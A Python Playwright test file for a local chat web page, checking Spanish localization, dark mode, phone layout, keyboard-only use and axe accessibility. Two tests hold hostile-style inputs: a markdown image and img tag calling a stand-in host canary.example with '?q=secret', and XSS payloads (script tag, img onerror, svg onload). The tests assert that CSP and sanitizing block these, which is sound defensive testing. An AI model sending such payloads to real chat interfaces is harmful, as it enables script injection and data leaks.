"""How the page looks and whom it lets in: languages, colours, sizes, the keyboard, no internet, accessibility."""

from __future__ import annotations

from urllib.parse import urlparse

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect

from tests.browser.conftest import TABS, ChatPage, OpenPage


def test_a_spanish_browser_gets_spanish(open_page: OpenPage) -> None:
    chat = open_page(locale="es-ES")
    expect(chat.page.locator("#tab-parameters-button")).to_have_text("Parámetros")
    expect(chat.message).to_have_attribute(
        "placeholder", "Escribe un mensaje. Intro lo envía, Mayús+Intro empieza otra línea."
    )
    expect(chat.page.locator("html")).to_have_attribute("lang", "es")
    chat.send("")
    expect(chat.page.get_by_text("El mensaje está vacío. Escribe algo primero.")).to_be_visible()
    chat.ask("hola")
    expect(chat.figures).to_contain_text("primer token")


def test_the_language_can_be_switched_and_stays(chat_page: ChatPage) -> None:
    chat_page.ask("Hello")
    chat_page.page.locator("#language input").click()
    chat_page.page.get_by_role("option", name="Español").click()
    expect(chat_page.page.locator("#tab-models-button")).to_have_text("Modelos")
    expect(chat_page.questions).to_have_text("Hello")
    chat_page.reload()
    expect(chat_page.page.locator("#tab-models-button")).to_have_text("Modelos")
    expect(chat_page.page.locator("#language input")).to_have_value("Español")
    expect(chat_page.page.locator("#model-state")).to_contain_text("Listo")


@pytest.mark.parametrize("locale", ["en-US", "es-ES"])
@pytest.mark.parametrize("dark", [False, True])
def test_a_phone_shows_everything_without_scrolling_sideways(open_page: OpenPage, locale: str, dark: bool) -> None:
    chat = open_page(width=390, height=844, locale=locale, dark=dark)
    chat.ask("¿Quién eres?")
    for tab in TABS:
        chat.open_tab(tab)
        widths = chat.page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
        assert widths[0] <= widths[1], f"{tab} is wider than the phone"
    assert chat.page.evaluate("document.body.classList.contains('dark')") is dark


def test_the_colours_can_be_switched_and_stay(chat_page: ChatPage) -> None:
    chat_page.page.click("#colours")
    expect(chat_page.page.locator("body")).to_have_class("dark")
    chat_page.reload()
    expect(chat_page.page.locator("body")).to_have_class("dark")


def test_the_keyboard_alone_is_enough(chat_page: ChatPage) -> None:
    page = chat_page.page
    expect(chat_page.message).to_be_focused()
    page.keyboard.type("Who are you?")
    page.keyboard.press("Shift+Enter")
    page.keyboard.press("Backspace")
    page.keyboard.press("Enter")
    expect(chat_page.figures).to_have_count(1)
    page.locator("#tab-chat-button").focus()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page.locator("#system-prompt textarea")).to_be_visible()


def test_nothing_is_fetched_from_other_hosts(open_page: OpenPage) -> None:
    chat = open_page()
    fetched: set[str | None] = set()
    refused: set[tuple[str | None, str | None]] = set()
    chat.page.on("requestfinished", lambda request: fetched.add(urlparse(request.url).hostname))
    chat.page.on("requestfailed", lambda request: refused.add((urlparse(request.url).hostname, request.failure)))
    chat.reload()
    chat.send("![x](http://canary.example/?q=secret) <img src='http://canary.example/2'>")
    expect(chat.figures).to_have_count(1)
    for tab in TABS:
        chat.open_tab(tab)
    assert {host for host in fetched if host} == {"127.0.0.1"}
    assert {failure for host, failure in refused if host == "canary.example"} <= {"csp"}


def test_scripts_in_messages_do_not_run(chat_page: ChatPage) -> None:
    chat_page.send(
        "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 2'><svg onload='window.hacked=3'>"
    )
    expect(chat_page.figures).to_have_count(1)
    assert chat_page.page.evaluate("window.hacked") is None


@pytest.mark.parametrize("locale", ["en-US", "es-ES"])
@pytest.mark.parametrize("dark", [False, True])
def test_axe_finds_nothing_serious(open_page: OpenPage, locale: str, dark: bool) -> None:
    chat = open_page(locale=locale, dark=dark)
    chat.ask("Show me Python code")
    for tab in TABS:
        chat.open_tab(tab)
        chat.page.wait_for_timeout(400)
        found = [
            (tab, violation["id"], [node["html"][:120] for node in violation["nodes"][:3]])
            for violation in Axe().run(chat.page).response["violations"]
            if violation["impact"] in ("serious", "critical")
        ]
        assert found == []
